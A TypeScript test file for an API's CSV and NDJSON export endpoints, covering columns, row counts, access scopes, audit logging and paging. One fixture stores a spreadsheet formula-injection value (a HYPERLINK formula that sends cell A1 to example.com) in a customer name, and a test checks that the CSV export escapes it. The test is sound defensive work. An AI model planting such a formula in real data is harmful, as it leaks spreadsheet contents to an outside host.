import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { asCustomer, type ConnectionId, type TenantId } from '../../../src/contracts/ids.ts'
import type { Database } from '../../../src/store/database.ts'
import { exportColumns, exportPages, type ExportName } from '../../../src/store/reads/exports.ts'
import { ask, startTestApi, type TestApi } from '../../support/api.ts'
import { fillBook } from '../../support/book.ts'
import { addConnection, addTenant, databaseKind } from '../../support/database.ts'
import { addIntervention } from '../../support/ledger.ts'

/** Over two pages of the store. */
const CUSTOMERS = 2100

let api: TestApi
let tenant: TenantId
let connection: ConnectionId
let key: string
let first: number

beforeAll(async () => {
  api = await startTestApi()
  tenant = await addTenant(api.database)
  connection = await addConnection(api.database, tenant)
  ;({ first } = await fillBook(api.database, tenant, connection, { count: CUSTOMERS, decided: 0.5 }))
  const place = { tenant, connection, customer: asCustomer(first + 1) }
  for (let n = 0; n < 3; n++) await addIntervention(api.database, place)
  await api.database.withTenant(tenant, (tx) =>
    tx.query('update customers set name = $3 where tenant_id = $1 and id = $2', [
      tenant,
      first + 2,
      '=HYPERLINK("http://example.com?leak="&A1,"Ada, Ltd")\nSecond line',
    ]),
  )
  key = await api.key(tenant, ['export', 'read'])
})
afterAll(() => api.close())

async function download(path: string, as = key): Promise<{ headers: Headers; text: string; status: number }> {
  const answer = await fetch(api.url + path, { headers: { authorization: `Bearer ${as}` } })
  return { headers: answer.headers, text: await answer.text(), status: answer.status }
}

/** RFC 4180, as a spreadsheet reads it. */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, comma, quoted, plain = ''] of csv.matchAll(/(,|\n|^)(?:"((?:[^"]|"")*)"|([^",\n]*))/g)) {
    if (comma === '\n') rows.push([])
    rows.at(-1)!.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
  }
  if (rows.at(-1)!.join('') === '') rows.pop()
  return rows
}

describe(`exports of the API (${databaseKind})`, () => {
  it('gives every customer once as CSV, with names of columns first', async () => {
    const { headers, text } = await download('/v1/exports/customers')
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('content-disposition')).toBe('attachment; filename="customers.csv"')
    const [names, ...rows] = cells(text)
    expect(names).toEqual(exportColumns('customers'))
    expect(rows).toHaveLength(CUSTOMERS)
    expect(new Set(rows.map(([id]) => id)).size).toBe(CUSTOMERS)
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([names.length]))
    const second = Object.fromEntries(names.map((name, at) => [name, rows[1][at]]))
    expect(second).toMatchObject({
      id: String(first + 1),
      name: 'Customer 2',
      status: 'active',
      group: 'policy',
      kind: 'snapshot',
      horizonDays: '',
      scoredAt: '2026-11-20T06:00:00.000Z',
      period: '2026-11',
      interventionState: 'planned',
    })
  })

  it('leaves nothing that a spreadsheet would run as a formula', async () => {
    const [names, ...rows] = cells((await download('/v1/exports/customers')).text)
    const name = rows[2][names.indexOf('name')]
    expect(name).toBe('\'=HYPERLINK("http://example.com?leak="&A1,"Ada, Ltd")\nSecond line')
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/)
  })

  it('gives a JSON object a line, with values as they are', async () => {
    const { headers, text } = await download('/v1/exports/customers?format=ndjson')
    expect(headers.get('content-type')).toBe('application/x-ndjson')
    expect(headers.get('content-disposition')).toContain('customers.ndjson')
    const rows = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>)
    expect(rows).toHaveLength(CUSTOMERS)
    expect(rows[2]['name']).toBe('=HYPERLINK("http://example.com?leak="&A1,"Ada, Ltd")\nSecond line')
    expect(Object.keys(rows[0])).toEqual(exportColumns('customers'))
    expect(rows[1]).toMatchObject({ id: first + 1, horizonDays: null })
  })

  it('gives the whole log of decisions, with lists as JSON', async () => {
    const [names, ...rows] = cells((await download('/v1/exports/decisions')).text)
    expect(rows).toHaveLength(CUSTOMERS / 2)
    const one = Object.fromEntries(names.map((name, at) => [name, rows[0][at]]))
    expect(JSON.parse(one['actionKeys'])).toHaveLength(6)
    expect(JSON.parse(one['masks'])[2]).toBe('no_consent')
    expect(one['propensity']).toBe('0.9')
  })

  it('gives the ledger of interventions', async () => {
    const { text } = await download('/v1/exports/interventions?format=ndjson')
    expect(text.trimEnd().split('\n')).toHaveLength(3)
  })

  it('gives names of columns alone where there is nothing', async () => {
    const nobody = await api.key(await addTenant(api.database), ['export'])
    for (const table of ['customers', 'decisions', 'interventions'] as const) {
      const { text } = await download(`/v1/exports/${table}`, nobody)
      expect(text).toBe(`${exportColumns(table).join(',')}\n`)
      expect((await download(`/v1/exports/${table}?format=ndjson`, nobody)).text).toBe('')
    }
  })

  it('needs the scope export, and notes who took what', async () => {
    const reader = await api.key(tenant, ['read', 'write', 'admin', 'score'])
    expect((await ask(api, reader, 'GET', '/v1/exports/customers')).status).toBe(403)
    const fresh = await addTenant(api.database)
    await download('/v1/exports/decisions', await api.key(fresh, ['export']))
    const audited = await api.database.withTenant(fresh, (tx) =>
      tx.query("select actor, object from audit_log where tenant_id = $1 and action = 'export'", [fresh]),
    )
    expect(audited).toEqual([{ actor: 'key:test', object: 'decisions' }])
  })

  it('reads a page only when it is asked for', async () => {
    let read = 0
    const counting: Database = {
      ...api.database,
      withTenant: (of, work) => {
        read++
        return api.database.withTenant(of, work)
      },
    }
    const pages = exportPages(counting, tenant, 'customers')
    expect((await pages.next()).value).toHaveLength(1000)
    expect(read).toBe(1)
    await pages.return()
    expect(read).toBe(1)
    const sizes: Record<ExportName, number> = { customers: 0, decisions: 0, interventions: 0 }
    for (const name of ['customers', 'decisions', 'interventions'] as const)
      for await (const rows of exportPages(counting, tenant, name)) sizes[name] += rows.length
    expect(sizes).toEqual({ customers: CUSTOMERS, decisions: CUSTOMERS / 2, interventions: 3 })
  })
})
